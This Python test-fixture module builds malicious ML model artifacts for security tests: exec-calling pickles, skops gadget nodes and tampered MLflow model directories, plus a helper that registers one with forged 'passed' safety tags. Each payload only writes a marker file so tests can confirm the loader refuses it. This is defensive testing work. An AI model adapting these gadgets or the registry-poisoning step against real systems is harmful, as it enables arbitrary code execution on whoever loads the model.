"""Model artifacts an attacker would craft, each with a payload that creates a marker file.

Every payload, if it ever ran, writes `marker` (a path in the test's tmp dir): a test asserts
the refusal AND that the marker does not exist. `live_*` helpers load an artifact the way the
unsafe code did (the file's own trust list, plain pickle), to show each payload is real.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import shutil
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import yaml
from sklearn.compose import ColumnTransformer
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import OneHotEncoder, StandardScaler

RUNSTRING = ("numpy.testing._private.utils", "runstring")
EXEC = ("builtins", "exec")


def payload(marker: Path) -> str:
    """Python code that creates `marker`."""
    return f"open({str(marker)!r}, 'w').write('payload ran')"


class Payload:
    """Pickles to a call of os.system-like `exec(payload)`."""

    def __init__(self, marker: Path) -> None:
        self.code = payload(marker)

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (exec, (self.code,))


def pickled(marker: Path, protocol: int) -> bytes:
    """A pickle of the payload in `protocol` (0 to 5)."""
    return pickle.dumps(Payload(marker), protocol=protocol)


def training_frame(n: int = 200, seed: int = 0) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    df = pd.DataFrame(
        {
            "tenure": rng.uniform(0, 60, n),
            "monthly": rng.uniform(20, 120, n),
            "contract": rng.choice(["month", "year1", "year2"], n).astype(object),
        }
    )
    df["churn"] = (df["tenure"] < 20).astype(int)
    return df


def pipeline() -> Pipeline:
    """A working vendor-style pipeline (ColumnTransformer + LogisticRegression)."""
    df = training_frame()
    pre = ColumnTransformer(
        [
            ("num", StandardScaler(), ["tenure", "monthly"]),
            ("cat", OneHotEncoder(handle_unknown="ignore"), ["contract"]),
        ]
    )
    pipe = Pipeline([("pre", pre), ("model", LogisticRegression(max_iter=500))])
    return pipe.fit(df[["tenure", "monthly", "contract"]], df["churn"])


def _gadget_node(marker: Path, target: tuple[str, str]) -> dict[str, Any]:
    """A skops node that calls `target(payload, {})` (runstring) or `target(payload)` (exec)
    when constructed: skops' ConstructorFromReduceNode calls module.class(*content)."""
    import skops.io

    args = (payload(marker), {}) if target == RUNSTRING else (payload(marker),)
    with zipfile.ZipFile(io.BytesIO(skops.io.dumps(args))) as zf:
        content = json.loads(zf.read("schema.json"))
    for key in ("protocol", "_skops_version"):
        content.pop(key, None)
    return {
        "__class__": target[1],
        "__module__": target[0],
        "__loader__": "ConstructorFromReduceNode",
        "content": content,
    }


def _rewrite(data: bytes, edit: Any) -> bytes:
    """A skops file with its schema.json changed by `edit(schema)`; other members kept."""
    src = zipfile.ZipFile(io.BytesIO(data))
    schema = json.loads(src.read("schema.json"))
    edit(schema)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for name in src.namelist():
            body = json.dumps(schema).encode() if name == "schema.json" else src.read(name)
            dst.writestr(name, body)
    return out.getvalue()


def _find(node: Any, cls: str) -> dict[str, Any]:
    """The first node of class `cls` in a skops schema (depth first)."""
    if isinstance(node, dict):
        if node.get("__class__") == cls:
            return node
        for value in node.values():
            with_cls = _find(value, cls)
            if with_cls:
                return with_cls
    elif isinstance(node, list):
        for value in node:
            with_cls = _find(value, cls)
            if with_cls:
                return with_cls
    return {}


def skops_gadget(marker: Path, where: str = "top", target: tuple[str, str] = RUNSTRING) -> bytes:
    """A skops file that runs the payload when loaded with the types it asks for.

    where: "top" (the whole file is the gadget), "pipeline" (the fitted pipeline's model step
    replaced by the gadget), "column_transformer" (the StandardScaler inside the
    ColumnTransformer step replaced).
    """
    import skops.io

    gadget = _gadget_node(marker, target)
    if where == "top":

        def top(schema: dict[str, Any]) -> None:
            kept = {k: schema[k] for k in ("protocol", "_skops_version") if k in schema}
            schema.clear()
            schema.update(gadget, **kept)

        return _rewrite(skops.io.dumps(None), top)
    victim = "LogisticRegression" if where == "pipeline" else "StandardScaler"

    def edit(schema: dict[str, Any]) -> None:
        node = _find(schema, victim)
        node.clear()
        node.update(gadget)

    return _rewrite(skops.io.dumps(pipeline()), edit)


def live_skops(data: bytes) -> Any:
    """Load the way the unsafe code did: trusting every type the file asks for."""
    import skops.io

    return skops.io.loads(data, trusted=skops.io.get_untrusted_types(data=data))


# --------------------------------------------------------------------------------------------
# MLflow model directories


def mlflow_dir(dest: Path) -> Path:
    """A genuine MLflow sklearn model (skops format, signature, input example) at `dest`."""
    import mlflow.sklearn
    from mlflow.models import infer_signature

    pipe = pipeline()
    X = training_frame(5, seed=1)[["tenure", "monthly", "contract"]]
    mlflow.sklearn.save_model(
        pipe,
        str(dest),
        signature=infer_signature(X, pipe.predict_proba(X)),
        input_example=X,
        pip_requirements=["scikit-learn"],
        serialization_format="skops",
        skops_trusted_types=[],
        pyfunc_predict_fn="predict_proba",
    )
    return dest


def edit_mlmodel(path: Path, edit: Any) -> None:
    """Change the MLmodel file of the model directory at `path` with `edit(doc)`."""
    doc = yaml.safe_load((path / "MLmodel").read_text())
    edit(doc)
    (path / "MLmodel").write_text(yaml.safe_dump(doc))


def malicious_dir(dest: Path, marker: Path, case: str) -> Path:
    """An MLflow model directory crafted so that MLflow's own loaders would run the payload.

    Cases:
        no_sklearn_flavor: loader mlflow.sklearn, no sklearn section, a protocol-0 pickle as
            model file (MLflow falls back to pickle).
        trusted_exec: sklearn flavor, skops format, `skops_trusted_types: [builtins.exec]` and
            a skops file whose top node calls exec(payload).
        runstring_in_pipeline: sklearn/skops, the pipeline's model step is the runstring gadget
            and the MLmodel trusts it.
        pickle_format / cloudpickle_format: sklearn flavor serialized with pickle/cloudpickle.
        python_model: a cloudpickled python_model (pyfunc).
        code_paths: the sklearn flavor adds a code directory to sys.path.
        symlink: the model file is a symlink to a pickle outside.
        hidden_pickle: a genuine model plus a protocol-1 pickle named `extra.json`.
    """
    mlflow_dir(dest)
    skops_file = dest / "model.skops"
    if case == "no_sklearn_flavor":
        skops_file.write_bytes(pickled(marker, 0))
        edit_mlmodel(dest, lambda d: d["flavors"].pop("sklearn"))
    elif case == "trusted_exec":
        skops_file.write_bytes(skops_gadget(marker, "top", EXEC))
        edit_mlmodel(
            dest, lambda d: d["flavors"]["sklearn"].update(skops_trusted_types=["builtins.exec"])
        )
    elif case == "runstring_in_pipeline":
        data = skops_gadget(marker, "pipeline")
        skops_file.write_bytes(data)
        import skops.io

        asked = skops.io.get_untrusted_types(data=data)
        edit_mlmodel(dest, lambda d: d["flavors"]["sklearn"].update(skops_trusted_types=asked))
    elif case in ("pickle_format", "cloudpickle_format"):
        fmt = case.split("_")[0]
        skops_file.write_bytes(pickled(marker, 2))
        edit_mlmodel(dest, lambda d: d["flavors"]["sklearn"].update(serialization_format=fmt))
    elif case == "python_model":
        (dest / "python_model.pkl").write_bytes(pickled(marker, 4))
        edit_mlmodel(
            dest,
            lambda d: d["flavors"].update(
                python_function={
                    "loader_module": "mlflow.pyfunc.model",
                    "python_model": "python_model.pkl",
                    "cloudpickle_version": "3.1.2",
                }
            ),
        )
    elif case == "code_paths":
        (dest / "code").mkdir()
        (dest / "code" / "sklearn.py").write_text(payload(marker))
        edit_mlmodel(dest, lambda d: d["flavors"]["sklearn"].update(code="code"))
    elif case == "symlink":
        outside = dest.parent / "outside.pkl"
        outside.write_bytes(pickled(marker, 2))
        skops_file.unlink()
        os.symlink(outside, skops_file)
    elif case == "hidden_pickle":
        (dest / "extra.json").write_bytes(pickled(marker, 1))
    else:
        raise ValueError(case)
    return dest


DIR_CASES = (
    "no_sklearn_flavor",
    "trusted_exec",
    "runstring_in_pipeline",
    "pickle_format",
    "cloudpickle_format",
    "python_model",
    "code_paths",
    "symlink",
    "hidden_pickle",
)
# what each refusal names
DIR_REASONS = {
    "no_sklearn_flavor": "no sklearn flavor section",
    "trusted_exec": "builtins.exec",
    "runstring_in_pipeline": "numpy.testing._private.utils.runstring",
    "pickle_format": "serialization_format: pickle",
    "cloudpickle_format": "serialization_format: cloudpickle",
    "python_model": "cloudpickled python_model",
    "code_paths": "code paths",
    "symlink": "is a symlink",
    "hidden_pickle": "extra.json is a pickle",
}


def copy_model(src: Path, dest: Path) -> Path:
    """A copy of a model directory, symlinks kept as links."""
    shutil.copytree(src, dest, symlinks=True)
    return dest


def gzipped(data: bytes) -> bytes:
    return gzip.compress(data)


def zipped(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr(name, data)
    return out.getvalue()


# --------------------------------------------------------------------------------------------
# The registry: what anyone with write access to it can do

# the crafted directories that survive an upload (a symlink arrives as a plain file)
REGISTRY_CASES = tuple(c for c in DIR_CASES if c != "symlink")


def register_dir(url: str, name: str, path: Path, *, champion: bool = True) -> str:
    """Upload a model directory to a run and register it as a version of `name` with
    MlflowClient directly (no pack code), with a forged "it passed" tag, and point `champion`
    at it. Returns the version."""
    from mlflow import MlflowClient
    from mlflow.exceptions import MlflowException

    client = MlflowClient(url)
    try:
        client.create_registered_model(name)
    except MlflowException:
        pass  # already there
    exp = client.get_experiment_by_name("attacker")
    exp_id = exp.experiment_id if exp else client.create_experiment("attacker")
    run_id = client.create_run(exp_id).info.run_id
    client.log_artifacts(run_id, str(path), artifact_path="model")
    mv = client.create_model_version(
        name,
        f"runs:/{run_id}/model",
        run_id=run_id,
        tags={"airmlops.gate": "passed", "airmlops.model_safety": "passed"},
    )
    if champion:
        client.set_registered_model_alias(name, "champion", mv.version)
    return str(mv.version)
